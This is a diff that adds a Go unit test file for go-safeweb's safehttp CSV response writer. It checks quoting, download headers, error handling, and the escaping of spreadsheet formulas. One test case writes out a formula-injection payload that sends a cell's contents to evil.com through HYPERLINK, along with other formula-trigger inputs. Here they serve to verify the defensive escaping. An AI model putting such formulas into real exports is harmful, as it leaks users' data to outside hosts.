@@ -0,0 +1,121 @@
+// Copyright 2026 Google LLC
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//	https://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+
+package safehttp_test
+
+import (
+	"errors"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+
+	"github.com/google/go-safeweb/safehttp"
+)
+
+func serveCSV(t *testing.T, resp safehttp.CSVResponse) *httptest.ResponseRecorder {
+	t.Helper()
+	mux := safehttp.NewServeMuxConfig(nil).Mux()
+	mux.Handle("/", safehttp.MethodGet, safehttp.HandlerFunc(func(w safehttp.ResponseWriter, r *safehttp.IncomingRequest) safehttp.Result {
+		return w.Write(resp)
+	}))
+	rr := httptest.NewRecorder()
+	mux.ServeHTTP(rr, httptest.NewRequest(safehttp.MethodGet, "http://foo.com/", nil))
+	return rr
+}
+
+func TestCSVResponse(t *testing.T) {
+	tests := []struct {
+		name            string
+		resp            safehttp.CSVResponse
+		wantBody        string
+		wantDisposition string
+	}{
+		{
+			name:     "Rows",
+			resp:     safehttp.CSVFromRows([]string{"name", "note"}, [][]string{{"a", "b"}, {"c", "d"}}),
+			wantBody: "name,note\na,b\nc,d\n",
+		},
+		{
+			name:     "Quoting",
+			resp:     safehttp.CSVFromRows(nil, [][]string{{"a,b", `say "hi"`, "two\nlines"}}),
+			wantBody: "\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\"\n",
+		},
+		{
+			name: "Formulas",
+			resp: safehttp.CSVFromRows([]string{"=HEADER()"}, [][]string{
+				{`=HYPERLINK("http://evil.com?"&A1)`, "+1", "-1", "@SUM(A1)", "\tx", "\rx", "a=b", ""},
+			}),
+			wantBody: "'=HEADER()\n\"'=HYPERLINK(\"\"http://evil.com?\"\"&A1)\",'+1,'-1,'@SUM(A1),'\tx,\"'\rx\",a=b,\n",
+		},
+		{
+			name: "Download",
+			resp: safehttp.CSVResponse{
+				Next:     safehttp.CSVFromRows(nil, [][]string{{"a"}}).Next,
+				Filename: "export.csv",
+			},
+			wantBody:        "a\n",
+			wantDisposition: `attachment; filename="export.csv"`,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			rr := serveCSV(t, tt.resp)
+
+			if got, want := rr.Code, int(safehttp.StatusOK); got != want {
+				t.Errorf("rr.Code: got %v want %v", got, want)
+			}
+			if got, want := rr.Header().Get("Content-Type"), "text/csv; charset=utf-8"; got != want {
+				t.Errorf(`rr.Header().Get("Content-Type"): got %q want %q`, got, want)
+			}
+			if got, want := rr.Header().Get("X-Content-Type-Options"), "nosniff"; got != want {
+				t.Errorf(`rr.Header().Get("X-Content-Type-Options"): got %q want %q`, got, want)
+			}
+			if got := rr.Header().Get("Content-Disposition"); got != tt.wantDisposition {
+				t.Errorf(`rr.Header().Get("Content-Disposition"): got %q want %q`, got, tt.wantDisposition)
+			}
+			if got := rr.Body.String(); got != tt.wantBody {
+				t.Errorf("rr.Body: got %q want %q", got, tt.wantBody)
+			}
+		})
+	}
+}
+
+func TestCSVResponseErrors(t *testing.T) {
+	failAfter := func(n int, field string) safehttp.CSVResponse {
+		return safehttp.CSVResponse{Header: []string{"h"}, Next: func() ([]string, bool, error) {
+			if n == 0 {
+				return nil, false, errors.New("database is down")
+			}
+			n--
+			return []string{field}, true, nil
+		}}
+	}
+
+	rr := serveCSV(t, failAfter(1, "a"))
+	if got, want := rr.Code, int(safehttp.StatusInternalServerError); got != want {
+		t.Errorf("error before anything was sent: rr.Code got %v want %v", got, want)
+	}
+	if strings.Contains(rr.Body.String(), "h\n") {
+		t.Errorf("error before anything was sent: rr.Body got %q, want no rows", rr.Body.String())
+	}
+
+	defer func() {
+		if r := recover(); r != http.ErrAbortHandler {
+			t.Errorf("error after rows were sent: got panic %v, want %v", r, http.ErrAbortHandler)
+		}
+	}()
+	serveCSV(t, failAfter(10, strings.Repeat("a", 1000)))
+}